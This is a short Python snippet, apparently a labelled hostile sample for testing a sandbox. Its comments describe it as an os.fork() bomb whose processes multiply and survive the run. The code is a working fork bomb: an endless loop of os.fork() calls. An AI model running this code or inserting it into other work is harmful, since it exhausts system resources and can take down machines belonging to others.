# Tries: an os.fork() bomb.
# Harm: processes multiply and survive the run.
import os
while True:
    os.fork()
